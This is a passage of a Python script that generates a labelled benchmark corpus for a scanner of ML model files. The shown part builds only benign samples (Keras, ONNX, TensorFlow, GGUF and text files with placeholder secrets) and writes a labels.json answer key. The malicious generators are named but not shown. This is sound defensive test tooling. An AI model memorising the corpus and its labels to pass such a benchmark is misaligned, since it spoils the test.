                    "name": "s",
                    "layers": [
                        {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}}
                    ],
                },
            },
        )
        c.record(p, "benign", "keras", "HDF5 model_config without Lambda", f"h5py {h5py.__version__}")
    c.good(
        "keras", "dense_model.keras", keras_zip(cfg, weights), ".keras zip, Dense/Dropout only (hand-built)"
    )
    # onnx: external data inside the model dir
    node = pb_bytes(1, "x") + pb_bytes(1, "w") + pb_bytes(2, "y") + pb_bytes(3, "mm") + pb_bytes(4, "MatMul")
    c.good(
        "onnx",
        "external/model.onnx",
        onnx_model([onnx_tensor("w", "weights.bin")], [node]),
        "ONNX with external data next to the model (hand-encoded)",
    )
    c.good("onnx", "external/weights.bin", b"\x00" * 16, "external data file")
    c.good(
        "onnx",
        "inline.onnx",
        onnx_model([onnx_tensor("w", raw=b"\x00" * 16)], [node]),
        "ONNX with inline raw_data (hand-encoded)",
    )
    c.good(
        "onnx",
        "subdir_data/model.onnx",
        onnx_model([onnx_tensor("w", "data/weights.bin")], [node]),
        "external data in a subdirectory",
    )
    c.good("onnx", "subdir_data/data/weights.bin", b"\x00" * 16, "external data file")
    onnx = mods.get("onnx")
    if onnx is not None:
        from onnx import TensorProto, helper

        g_ = helper.make_graph(
            [helper.make_node("Relu", ["x"], ["y"])],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        )
        p = c.path("benign", "onnx", "relu.onnx")
        onnx.save(helper.make_model(g_), str(p))
        c.record(p, "benign", "onnx", "onnx.helper model", f"onnx {onnx.__version__}")
    # tensorflow: a SavedModel graph with the saver ops every real SavedModel has
    saver = [
        tf_node("saver_filename", "Placeholder"),
        tf_node("StringJoin", "StringJoin", ("saver_filename",)),
        tf_node("ShardedFilename", "ShardedFilename", ("StringJoin",)),
        tf_node("SaveV2", "SaveV2", ("ShardedFilename",)),
        tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", ("ShardedFilename",)),
        tf_node("RestoreV2", "RestoreV2", ("saver_filename",)),
        tf_node("Identity", "Identity", ("RestoreV2",)),
        tf_node("AssignVariableOp", "AssignVariableOp", ("Identity",)),
        tf_node("VarHandleOp", "VarHandleOp"),
        tf_node("ReadVariableOp", "ReadVariableOp", ("VarHandleOp",)),
        tf_node(
            "StatefulPartitionedCall",
            "StatefulPartitionedCall",
            ("x",),
            {"f": pb_bytes(10, pb_bytes(1, "__inference_serve_1"))},
        ),
    ]
    c.good(
        "tensorflow",
        "dense/saved_model.pb",
        tf_saved_model(
            base_tf_nodes() + saver,
            ("__inference_serve_1", [tf_node("mm", "MatMul", ("x", "w")), tf_node("relu", "Relu", ("mm",))]),
        ),
        "SavedModel with the standard saver ops (SaveV2/RestoreV2), hand-encoded",
    )
    c.good("tensorflow", "dense/variables/variables.index", b"\x00" * 32, "checkpoint index (opaque bytes)")
    # gguf
    kvs = [
        gguf_kv_str("general.architecture", "llama"),
        gguf_kv_str("general.name", "bench-tiny"),
        gguf_kv_str(
            "tokenizer.chat_template",
            "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}<|assistant|>",
        ),
    ]
    c.good(
        "gguf",
        "tiny.gguf",
        gguf(kvs, [gguf_tensor("w", [4], 0, 0), gguf_tensor("b", [4], 0, 32)], data=b"\x00" * 48),
        "valid GGUF v3 (hand-written per spec)",
    )


def gen_benign_text(c: Corpus, rng: random.Random) -> None:
    kind = "text"
    c.good(
        kind,
        "train.py",
        b'''"""Train a classifier and log it to MLflow."""
import os

import mlflow
import numpy as np
from sklearn.linear_model import LogisticRegression

TRACKING_URI = os.environ.get("MLFLOW_TRACKING_URI", "http://localhost:5000")
API_TOKEN = os.environ["MLFLOW_TRACKING_TOKEN"]  # read from the environment, never hard-coded
password = os.getenv("DB_PASSWORD", "")
SEED = 42
DATASET_SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def main() -> None:
    rng = np.random.default_rng(SEED)
    X = rng.normal(size=(100, 4))
    y = (X[:, 0] > 0).astype(int)
    with mlflow.start_run():
        model = LogisticRegression().fit(X, y)
        mlflow.log_param("C", model.C)
        mlflow.sklearn.log_model(model, "model")


if __name__ == "__main__":
    main()
''',
        "training script (env-var secrets, a sha256 digest)",
    )
    c.good(
        kind,
        "config.yaml",
        b"""model:
  name: fraud-detector
  version: 3
  run_id: 4b7f0e2c9d1a4f6b8e3c5a7d9f1b3e5c
training:
  lr: 0.001
  batch_size: 64
  password: ${DB_PASSWORD}
  token_env: MLFLOW_TRACKING_TOKEN
storage:
  uri: s3://ml-artifacts/fraud/
  digest: sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
database: postgresql://mlflow@db.internal:5432/mlflow
""",
        "YAML config (placeholders, digests, URL without password)",
    )
    rows = ["id,amount,merchant,label"] + [
        f"{i},{rng.random() * 100:.2f},m{rng.randint(1, 50)},{rng.randint(0, 1)}" for i in range(200)
    ]
    c.good(kind, "data.csv", ("\n".join(rows) + "\n").encode(), "CSV data")
    c.good(
        kind,
        "README.md",
        b"# Fraud model\n\nLoad with `mlflow.pyfunc.load_model('models:/fraud/3')`.\n"
        b"Set `AWS_SECRET_ACCESS_KEY` in your environment; see docs.\n",
        "README",
    )
    c.good(
        kind,
        "requirements.txt",
        b"mlflow==3.17.0\nscikit-learn==1.9.1\nnumpy>=2\ntorch==2.13.0\n",
        "requirements",
    )
    c.good(
        kind,
        "params.json",
        json.dumps(
            {
                "lr": 0.001,
                "C": 1.0,
                "model_uuid": "0f3a5c8e2b7d4e1f9a6c3b8d5e2f7a1c",
                "git_sha": "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
            }
        ).encode(),
        "JSON params with hex ids",
    )
    c.good(
        kind,
        "tokenizer.json",
        json.dumps(
            {
                "version": "1.0",
                "model": {
                    "type": "BPE",
                    "vocab": {f"tok{i}": i for i in range(300)},
                    "merges": [f"t o{i}" for i in range(100)],
                },
            }
        ).encode(),
        "tokenizer JSON",
    )


# --------------------------------------------------------------------------------------------


def _try(name: str) -> Any:
    try:
        return __import__(name)
    except Exception:
        return None


def generate(out: Path) -> dict[str, Any]:
    out.mkdir(parents=True, exist_ok=True)
    for sub in ("malicious", "benign"):
        if (out / sub).exists():
            import shutil

            shutil.rmtree(out / sub)
    c = Corpus(out)
    mods = {
        n: _try(n)
        for n in (
            "numpy",
            "torch",
            "joblib",
            "sklearn",
            "xgboost",
            "safetensors",
            "h5py",
            "skops",
            "mlflow",
            "py7zr",
            "onnx",
        )
    }
    c.libs = {k: getattr(v, "__version__", "?") for k, v in mods.items() if v is not None}
    steps: list[tuple[str, Callable[[], None]]] = [
        ("pickle-global", lambda: gen_pickle_global(c)),
        ("pickle-obfuscation", lambda: gen_pickle_obfuscation(c)),
        ("torch", lambda: gen_torch(c, mods["torch"])),
        ("joblib", lambda: gen_joblib(c)),
        ("numpy", lambda: gen_numpy(c)),
        ("keras", lambda: gen_keras(c, mods["h5py"])),
        ("tensorflow", lambda: gen_tensorflow(c)),
        ("onnx", lambda: gen_onnx(c)),
        ("safetensors-gguf", lambda: gen_safetensors_gguf(c)),
        ("containers", lambda: gen_containers(c, mods["py7zr"])),
        ("secrets", lambda: gen_secrets(c)),
        ("benign", lambda: gen_benign(c, mods)),
    ]
    for _name, fn in steps:
        fn()
    (out / "labels.json").write_text(json.dumps(c.labels, indent=1) + "\n")
    info = {
        "python": sys.version.split()[0],
        "libraries": c.libs,
        "skipped": c.skipped,
        "counts": {
            "malicious": sum(1 for x in c.labels if x["label"] == "malicious"),
            "benign": sum(1 for x in c.labels if x["label"] == "benign"),
        },
    }
    (out / "corpus-info.json").write_text(json.dumps(info, indent=1) + "\n")
    return info


def add_mlflow_model(out: Path) -> dict[str, Any]:
    """Add a model saved by the real ``mlflow.sklearn.save_model`` to an existing corpus.

    bench/scan.py runs this with the main venv's python (where mlflow lives) after the corpus was
    generated in the anchors venv (where torch lives)."""
    import shutil

    import mlflow
    import sklearn
    from sklearn.datasets import make_classification
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    X, y = make_classification(n_samples=200, n_features=8, random_state=0)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(X, y)
    c = Corpus(out)
    prefix = "benign/mlflow-model/sklearn_model"
    for d in (out / prefix, out / (prefix + "_skops")):
        if d.exists():
            shutil.rmtree(d)
    labels_path = out / "labels.json"
    old = json.loads(labels_path.read_text()) if labels_path.exists() else []
    c.labels = [
        x for x in old if not (x["path"].startswith(prefix + "/") or x["path"].startswith(prefix + "_skops/"))
    ]
    gen_mlflow_model(c, {"mlflow": mlflow, "sklearn": sklearn, "skops": _try("skops")}, pipe)
    labels_path.write_text(json.dumps(c.labels, indent=1) + "\n")
    info_path = out / "corpus-info.json"
    info = json.loads(info_path.read_text()) if info_path.exists() else {}
    info.setdefault("libraries", {})["mlflow (main venv)"] = mlflow.__version__
    info["skipped"] = info.get("skipped", []) + c.skipped
    info["counts"] = {
        "malicious": sum(1 for x in c.labels if x["label"] == "malicious"),
        "benign": sum(1 for x in c.labels if x["label"] == "benign"),
    }
    info_path.write_text(json.dumps(info, indent=1) + "\n")
    return info


def main(argv: list[str]) -> int:
    args = argv[1:]
    if len(args) == 3 and args[1] == "--only" and args[2] == "mlflow-model":
        info = add_mlflow_model(Path(args[0]))
    elif len(args) == 1 and not args[0].startswith("-"):
        info = generate(Path(args[0]))
    else:
        print("usage: scan_corpus.py OUT_DIR [--only mlflow-model]")
        return 2
    print(json.dumps(info, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
